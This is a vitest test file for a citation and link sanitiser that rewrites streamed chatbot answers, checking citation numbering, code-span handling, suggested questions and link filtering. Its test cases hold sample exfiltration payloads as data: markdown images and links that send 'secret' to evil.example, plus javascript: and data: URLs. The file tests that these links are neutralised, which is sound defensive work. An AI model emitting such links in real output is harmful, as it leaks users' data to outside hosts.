import { describe, expect, test } from 'vitest';
import { replyCitations } from './reply-citations';

const ROOT = 'https://docs.example/';
const sections = [
  { url: 'https://docs.example/install#requirements', title: 'Install › Requirements' },
  { url: 'https://docs.example/keys', title: 'Keys' },
];
const given = ['https://nodejs.org/en', '/install#requirements'];

function citations() {
  return replyCitations({
    sectionOf: (number) => sections[number - 7],
    sectionAt: (url) => sections.find((section) => section.url === url),
    pageAt: (path) => (path === '/start' || path === '/start.md' ? 'https://docs.example/start' : undefined),
    isGiven: (address) => given.includes(address),
    root: ROOT,
  });
}

/**
 * Asserts that the whole text and the text letter by letter give the same result, because it may arrive in any pieces.
 */
function written(text: string): string {
  const whole = citations();
  const first = whole.push(text) + whole.end();
  const slow = citations();
  const second = [...text].map((letter) => slow.push(letter)).join('') + slow.end();
  expect(second).toBe(first);
  return first;
}

describe('a mark', () => {
  test('leads to page and heading, numbered by first use', () => {
    expect(written('Two gigabytes [8]. A key [7][8], both [7, 8].')).toBe(
      'Two gigabytes [1](https://docs.example/keys "Keys"). ' +
        'A key [2](https://docs.example/install#requirements "Install › Requirements")[1](https://docs.example/keys "Keys"), ' +
        'both [2](https://docs.example/install#requirements "Install › Requirements")[1](https://docs.example/keys "Keys").',
    );
  });

  test('of nothing that was given is left out', () => {
    expect(written('Two gigabytes [99].')).toBe('Two gigabytes .');
  });

  test.each([
    '`items[7]`',
    '```js\nitems[7] = [8]\n```\n',
    '~~~\n[7]\n~~~\n',
    '- Run\n\n  ```js\n  a[7] = `x\n  ```\n',
    '\\[7]',
  ])('in code is code: %s', (code) => expect(written(`So:\n\n${code}`)).toBe(`So:\n\n${code}`));

  test('makes its section a source, once', () => {
    const cited = citations();
    cited.push('One [8], two [8], three [7]. ');
    expect(cited.used()).toEqual([
      { id: 's1', ...sections[1] },
      { id: 's2', ...sections[0] },
    ]);
  });
});

describe('a link', () => {
  test.each([
    ['[Start](/start)', '[Start](https://docs.example/start)'],
    ['[Start](https://docs.example/start.md)', '[Start](https://docs.example/start)'],
    ['[Start](/start#invented)', '[Start](https://docs.example/start)'],
    ['[Needs](/install#requirements)', '[Needs](https://docs.example/install#requirements)'],
    ['[Nowhere](/nowhere)', 'Nowhere'],
    ['[Node](https://nodejs.org/en)', '[Node](https://nodejs.org/en)'],
    ['[Node](https://nodejs.org/en?leak=secret)', 'Node'],
    ['[Click](javascript:alert(1))', 'Click'],
    ['[Click](data:text/html,x)', 'Click'],
    ['[Click](//evil.example/x)', 'Click'],
    ['![x](https://evil.example/?q=secret)', 'x'],
    ['[![x](https://evil.example/?q=1)](https://evil.example/?q=2)', 'x'],
    ['[![x](https://evil.example/?q=1)](/start)', '[x](https://docs.example/start)'],
    ['[https://evil.example/?q=1](https://evil.example/?q=1)', '`https://evil.example/?q=1`'],
    ['![x][e]', '[x][e]'],
    ['![](https://evil.example/?q=secret)', 'image'],
    ['https://evil.example/?q=secret and on', '`https://evil.example/?q=secret` and on'],
    ['See https://nodejs.org/en.', 'See <https://nodejs.org/en>.'],
    ['<https://evil.example/?q=secret>', '`https://evil.example/?q=secret`'],
    ['<img src="https://evil.example/?q=secret">', '&lt;img src="`https://evil.example/?q=secret`">'],
    ['[x][e]\n\n[e]: https://evil.example/q\n', '[x][e]\n\n[e\\]: `https://evil.example/q`\n'],
  ])('%s is sent as %s', (text, sent) => expect(written(text)).toBe(sent));

  test('with brackets in its label is one link', () => {
    expect(written('[Set `a` [now]](/start)')).toBe('[Set `a` now](https://docs.example/start)');
  });
});

test('what is no link stays as it is, also where it is never closed', () => {
  for (const text of ['a [b', 'x < 3 and y > 2', 'hash, http, h', 'wow! [x] (y)', '- [ ] task\n- [x] done\n'])
    expect(written(text)).toBe(text);
});

test('ticks that nothing closes are text, also beside those of a later line', () => {
  expect(written('`open\n`a` [7]')).toBe(
    '\\`open\n`a` [1](https://docs.example/install#requirements "Install › Requirements")',
  );
});

test('suggested questions are taken out of the text, three at most', () => {
  const cited = citations();
  const text = 'Done.\n\n<next>How do I start?\n- What is a key?|3. Why?\nA fourth?</next>';
  const sent = [...text].map((letter) => cited.push(letter)).join('') + cited.end();
  expect(sent).toBe('Done.\n\n');
  expect(cited.suggested()).toEqual(['How do I start?', 'What is a key?', 'Why?']);
});

test('a text of a megabyte without an end of a link is no work', () => {
  const cited = citations();
  let length = 0;
  for (let piece = 0; piece < 10_000; piece++) length += cited.push('[a('.repeat(33)).length;
  expect(length + cited.end().length).toBe(10_000 * 99);
});
